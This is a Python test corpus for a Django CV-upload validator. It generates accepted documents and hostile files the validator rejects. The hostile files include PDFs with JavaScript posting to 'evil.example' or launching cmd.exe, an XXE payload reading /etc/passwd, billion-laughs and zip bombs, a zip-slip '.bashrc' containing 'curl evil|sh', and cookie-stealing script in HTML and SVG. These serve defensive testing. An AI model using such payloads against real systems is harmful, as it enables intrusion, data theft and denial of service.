"""Files people might upload as a CV or letter, built in code at test time (no binaries in git).

``HOSTILE`` are files that must be refused (each with the ValidationError code and message it must get),
plus one valid PDF that carries HTML in a comment and a link: accepted, and it must only ever go out as an
attachment. ``GOOD`` are ordinary documents that must be accepted. Each ``Sample.make()`` returns a
fresh Django ``UploadedFile`` named and typed the way a browser would send it; close it when done.

Other apps' tests (the application form) can reuse these: ``from tests.core.upload_corpus import HOSTILE``.
"""

import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile, UploadedFile

MB = 1024 * 1024
FORMATS = "PDF, Word (DOCX) or OpenDocument (ODT)"

# The message each refusal code must show (default allowed kinds and the 10 MB limit).
MESSAGES = {
    "file_type": f"This file is not a {FORMATS} document. Please upload it in one of these formats.",
    "empty": f"This file is empty. Please choose your document again: {FORMATS}, at most 10 MB.",
    "zip_bomb": (
        "This file would expand to far too much data when opened, so we cannot accept it. "
        f"Please save your document again as {FORMATS} and upload the new file."
    ),
    "macros": (
        "This Word document contains macros, which we do not accept. "
        "Please save it as a normal Word document (DOCX) or as PDF and upload it again."
    ),
    "pdf_unreadable": (
        "This PDF cannot be read: it is damaged or incomplete. "
        "Please export or save your document as PDF again and upload the new file."
    ),
    "pdf_no_pages": "This PDF has no pages. Please export or save your document as PDF again and upload the new file.",
    "pdf_appended": (
        "This PDF has other data attached after its end, so we cannot accept it. "
        "Please export or save your document as PDF again and upload the new file."
    ),
    "pdf_active": (
        "This PDF contains scripts, actions that start programs or attached files, which we do not accept. "
        "Please export or print your document to a new PDF without them and upload the new file."
    ),
    "pdf_encrypted": (
        "This PDF is protected by a password, so we cannot open it. "
        "Please remove the password (save an unprotected copy) and upload the new file."
    ),
    "nested_archive": (
        "This document contains another compressed archive, which we do not accept. "
        f"Please remove it, save your document again as {FORMATS} and upload the new file."
    ),
    "xml_declarations": (
        "This document contains XML declarations (DTD or entities) that word processors do not write, "
        f"so we cannot accept it. Please save your document again as {FORMATS} and upload the new file."
    ),
    "damaged": (
        "This document cannot be read: part of it is damaged. "
        f"Please save your document again as {FORMATS} and upload the new file."
    ),
}


@dataclass(frozen=True)
class Sample:
    id: str
    make: Callable[[], UploadedFile]
    code: str | None = None  # the ValidationError code it must get; None: accepted
    kind: str | None = None  # the kind it is accepted as
    message: str | None = None  # when it differs from MESSAGES[code]

    @property
    def expected_message(self) -> str | None:
        return self.message or MESSAGES.get(self.code)


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- good documents --------------------------------------------------------------------------


@cache
def pdf_bytes() -> bytes:
    """A real one-page PDF, made by typst."""
    import typst

    return typst.compile(b"= Curriculum vitae\nHello, I manage a cluster.", format="pdf")


def zip_bytes(members: list[tuple[str, bytes]], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            # a fixed time stamp: the same members always give the same bytes
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return buffer.getvalue()


DOCX_PARTS = [
    (
        "[Content_Types].xml",
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        b"</Types>",
    ),
    (
        "_rels/.rels",
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Target="word/document.xml" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
        b"</Relationships>",
    ),
    (
        "word/document.xml",
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>",
    ),
]


def docx_bytes(extra: list[tuple[str, bytes]] = ()) -> bytes:
    return zip_bytes([*DOCX_PARTS, *extra])


def odt_bytes(mimetype: bytes = b"application/vnd.oasis.opendocument.text", mimetype_first: bool = True) -> bytes:
    """An ODT the way LibreOffice writes one: ``mimetype`` first and stored, then the manifest and content."""
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
        b"<office:body><office:text><text:p>Curriculum vitae</text:p></office:text></office:body>"
        b"</office:document-content>"
    )
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        b'manifest:version="1.3">'
        b'<manifest:file-entry manifest:full-path="/" manifest:media-type="' + mimetype + b'"/>'
        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        b"</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if mimetype_first:
            archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr("content.xml", content)
        if not mimetype_first:
            archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
    return buffer.getvalue()


DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def pypdf_bytes(*, user_password: str | None = None, owner_password: str | None = None, pages: int = 1) -> bytes:
    """A PDF written by pypdf: blank pages, optionally encrypted (AES-128)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if user_password is not None:
        writer.encrypt(user_password, owner_password, algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    """A small spreadsheet, the way Word embeds one in a DOCX (word/embeddings/*.xlsx is itself a zip)."""
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "Budget"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()

GOOD = [
    Sample("pdf", lambda: upload("Anna Virtanen CV.pdf", pdf_bytes()), kind="pdf"),
    Sample("docx", lambda: upload("cv.docx", docx_bytes(), DOCX_TYPE), kind="docx"),
    Sample("odt", lambda: upload("cv.odt", odt_bytes(), "application/vnd.oasis.opendocument.text"), kind="odt"),
    # Judged by content: a DOCX with the wrong name and a PDF with a scary browser type are still fine.
    Sample("docx_named_pdf", lambda: upload("cv.pdf", docx_bytes()), kind="docx"),
    Sample("pdf_odd_content_type", lambda: upload("cv.pdf", pdf_bytes(), "application/x-msdownload"), kind="pdf"),
    Sample("pdf_by_pypdf", lambda: upload("cv.pdf", pypdf_bytes(pages=2)), kind="pdf"),
    # Encrypted with an owner password only: opens without a password, so it is checked and accepted.
    Sample("pdf_owner_password_only", lambda: upload("cv.pdf", pypdf_bytes(user_password="", owner_password="x")),
           kind="pdf"),
    Sample("pdf_trailing_newlines", lambda: upload("cv.pdf", pdf_bytes() + b"\r\n\x00\n"), kind="pdf"),
    Sample("docx_with_embedded_spreadsheet",
           lambda: upload("cv.docx", docx_bytes([("word/embeddings/Budget.xlsx", xlsx_bytes())]), DOCX_TYPE),
           kind="docx"),
]


# --- hostile files ---------------------------------------------------------------------------


def raw_pdf(objects: list[bytes], *, header: bytes = b"") -> bytes:
    """A small, well-formed PDF from numbered object bodies (1 is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PAGES = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]


def pdf_with_javascript() -> bytes:
    """A small, well-formed PDF that runs JavaScript when opened (an /OpenAction with /JS)."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        *PAGES,
        b"<< /Type /Action /S /JavaScript "
        b"/JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/'\\);) >>",
    ])


def pdf_with_javascript_in_names() -> bytes:
    """Document-level JavaScript in the names tree, its name spelt with #-escapes (/J#61vaScript)."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
        *PAGES,
        b"<< /Names [(x) << /S /J#61vaScript /JS 5 0 R >>] >>",
        b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
    ])


def pdf_with_launch_action() -> bytes:
    """A page whose open action (/AA /O) launches a program."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >> >>",
    ])


def pdf_with_embedded_file() -> bytes:
    """An attached file (the names tree's /EmbeddedFiles), here an executable."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >> >>",
        *PAGES,
        b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
    ])


def pdf_without_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_with_html_and_a_link() -> bytes:
    """Valid and accepted: HTML in a comment (a sniffing browser might render it) and a web link on the page."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.org/cv) >> >>",
    ], header=b"%<html><body><script>alert(document.cookie)</script></body></html>\n")


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(480)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(44)
    + b"\x80\x00\x00\x00"  # e_lfanew
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
).ljust(0x80, b"\x00") + b"PE\x00\x00\x64\x86" + bytes(400)
HTML = b"<!DOCTYPE html><html><body><h1>CV</h1><script>fetch('/staff/').then(r=>r.text()).then(alert)</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>alert(1)</script><text>CV</text></svg>"
)


ODS_MIMETYPE = b"application/vnd.oasis.opendocument.spreadsheet"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # what vbaProject.bin starts with


def jpeg_bytes() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(buffer, "JPEG")
    return buffer.getvalue()


@cache
def zip_bomb(member_size: int) -> bytes:
    """A DOCX-shaped zip whose document.xml unpacks to ``member_size`` bytes of zeros (written in chunks)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in DOCX_PARTS[:2]:
            archive.writestr(name, data)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            block = bytes(MB)
            for _ in range(member_size // MB):
                member.write(block)
    return buffer.getvalue()


def nested_zip_bomb() -> bytes:
    """A DOCX carrying a small zip (word/embeddings/) whose one member unpacks to 50 MB of zeros."""
    return docx_bytes([("word/embeddings/package.zip", zip_bomb_member(50 * MB))])


@cache
def zip_bomb_member(member_size: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            block = bytes(MB)
            for _ in range(member_size // MB):
                member.write(block)
    return buffer.getvalue()


XXE_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "hahahahaha">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&c;</Types>'
)


def docx_with(name: str, data: bytes) -> bytes:
    """The good DOCX with one part replaced."""
    return zip_bytes([(part, data if part == name else content) for part, content in DOCX_PARTS])


def many_members() -> bytes:
    return docx_bytes([(f"word/media/pad{i}.xml", b"") for i in range(2001)])


def big_sparse_pdf(real_size: int, claimed_size: int | None = None) -> TemporaryUploadedFile:
    """A PDF-looking file of ``real_size`` bytes that costs no memory and (sparse) almost no disk."""
    upload_file = TemporaryUploadedFile("cv.pdf", "application/pdf", claimed_size or real_size, None)
    upload_file.write(b"%PDF-1.7\n")
    upload_file.truncate(real_size)
    upload_file.seek(0)
    return upload_file


HOSTILE = [
    Sample("elf_executable", lambda: upload("cv.pdf", ELF), "file_type"),
    Sample("windows_executable", lambda: upload("cv.pdf", PE), "file_type"),
    Sample("html", lambda: upload("cv.pdf", HTML), "file_type"),
    Sample("svg_with_script", lambda: upload("cv.pdf", SVG), "file_type"),
    Sample("jpeg", lambda: upload("cv.pdf", jpeg_bytes()), "file_type"),
    Sample("pdf_marker_not_at_start", lambda: upload("cv.pdf", b"Dear committee,\n%PDF-1.7\n1 0 obj\n"), "file_type"),
    Sample("polyglot_mz_then_pdf", lambda: upload("cv.pdf", PE + pdf_bytes()), "file_type"),
    Sample("exe_with_docx_appended", lambda: upload("cv.docx", PE + docx_bytes(), DOCX_TYPE), "file_type"),
    Sample("plain_zip", lambda: upload("cv.docx", zip_bytes([("notes.txt", b"hello")]), DOCX_TYPE), "file_type"),
    Sample("random_bytes", lambda: upload("cv.docx", random.Random(7).randbytes(4096), DOCX_TYPE), "file_type"),
    Sample("truncated_docx", lambda: upload("cv.docx", docx_bytes()[:300], DOCX_TYPE), "file_type"),
    Sample("zip_slip_docx", lambda: upload("cv.docx", docx_bytes([("../../.bashrc", b"curl evil|sh")])), "file_type"),
    Sample("odt_wrong_mimetype", lambda: upload("cv.odt", odt_bytes(ODS_MIMETYPE)), "file_type"),
    Sample("odt_mimetype_not_first", lambda: upload("cv.odt", odt_bytes(mimetype_first=False)), "file_type"),
    Sample("docx_with_macros", lambda: upload("cv.docx", docx_bytes([("word/vbaProject.bin", OLE)])), "macros"),
    Sample("zip_bomb_101_mb", lambda: upload("cv.docx", zip_bomb(101 * MB), DOCX_TYPE), "zip_bomb"),
    Sample("zip_bomb_ratio", lambda: upload("cv.docx", zip_bomb(20 * MB), DOCX_TYPE), "zip_bomb"),
    Sample("zip_2001_members", lambda: upload("cv.docx", many_members(), DOCX_TYPE), "zip_bomb"),
    Sample("empty", lambda: upload("cv.pdf", b""), "empty"),
    Sample("path_and_nul_in_name", lambda: upload("../../etc/passwd\x00.pdf", HTML), "file_type"),
    Sample("right_to_left_override_name", lambda: upload("cv\u202efdp.exe", ELF), "file_type"),
    Sample(
        "fifty_mb",
        lambda: big_sparse_pdf(50 * MB),
        "too_large",
        message="This file is 50.0 MB; the limit is 10 MB. Please upload a smaller file.",
    ),
    Sample(
        "size_claim_lies",  # .size says 1 kB; reading finds out, stopping one chunk past the limit
        lambda: big_sparse_pdf(50 * MB, claimed_size=1024),
        "too_large",
        message="This file is 10.1 MB; the limit is 10 MB. Please upload a smaller file.",
    ),
    # Judged by structure, not by the first bytes (issue 9)
    Sample("pdf_header_only", lambda: upload("cv.pdf", b"%PDF-1.7"), "pdf_unreadable"),
    Sample("pdf_header_then_html", lambda: upload("cv.pdf", b"%PDF-1.7\n" + HTML), "pdf_unreadable"),
    Sample("pdf_truncated", lambda: upload("cv.pdf", pdf_bytes()[: len(pdf_bytes()) // 2]), "pdf_unreadable"),
    Sample("pdf_without_pages", lambda: upload("cv.pdf", pdf_without_pages()), "pdf_no_pages"),
    Sample("pdf_with_docx_appended", lambda: upload("cv.pdf", pdf_bytes() + docx_bytes()), "pdf_appended"),
    Sample("pdf_with_docx_and_eof_appended",  # the zip hidden before a last %%EOF
           lambda: upload("cv.pdf", pdf_bytes() + docx_bytes() + b"\n%%EOF\n"), "pdf_appended"),
    Sample("pdf_with_html_appended", lambda: upload("cv.pdf", pdf_bytes() + HTML), "pdf_appended"),
    Sample("pdf_with_javascript", lambda: upload("cv.pdf", pdf_with_javascript()), "pdf_active"),
    Sample("pdf_with_javascript_in_names", lambda: upload("cv.pdf", pdf_with_javascript_in_names()), "pdf_active"),
    Sample("pdf_with_launch_action", lambda: upload("cv.pdf", pdf_with_launch_action()), "pdf_active"),
    Sample("pdf_with_embedded_file", lambda: upload("cv.pdf", pdf_with_embedded_file()), "pdf_active"),
    Sample("pdf_with_password", lambda: upload("cv.pdf", pypdf_bytes(user_password="secret", owner_password="x")),
           "pdf_encrypted"),
    Sample("docx_nested_zip_bomb_50_mb", lambda: upload("cv.docx", nested_zip_bomb(), DOCX_TYPE), "zip_bomb"),
    Sample("docx_zip_in_zip_in_zip",
           lambda: upload("cv.docx", docx_bytes([("word/embeddings/a.docx", zip_bytes([("b.zip", docx_bytes())]))]),
                          DOCX_TYPE), "nested_archive"),
    Sample("docx_with_gzip_inside",
           lambda: upload("cv.docx", docx_bytes([("word/media/x.gz", b"\x1f\x8b\x08\x00" + bytes(60))]), DOCX_TYPE),
           "nested_archive"),
    Sample("docx_xxe", lambda: upload("cv.docx", docx_with("word/document.xml", XXE_DOCUMENT), DOCX_TYPE),
           "xml_declarations"),
    Sample("docx_billion_laughs", lambda: upload("cv.docx", docx_with("[Content_Types].xml", LAUGHS), DOCX_TYPE),
           "xml_declarations"),
    Sample("docx_broken_xml", lambda: upload("cv.docx", docx_with("word/document.xml", b"<w:document><w:body>"),
                                             DOCX_TYPE), "damaged"),
    # Valid, and accepted: HTML in a comment and a link; must only ever be served as an attachment (see test_files).
    Sample("pdf_with_html_and_a_link", lambda: upload("cv.pdf", pdf_with_html_and_a_link()), kind="pdf"),
]
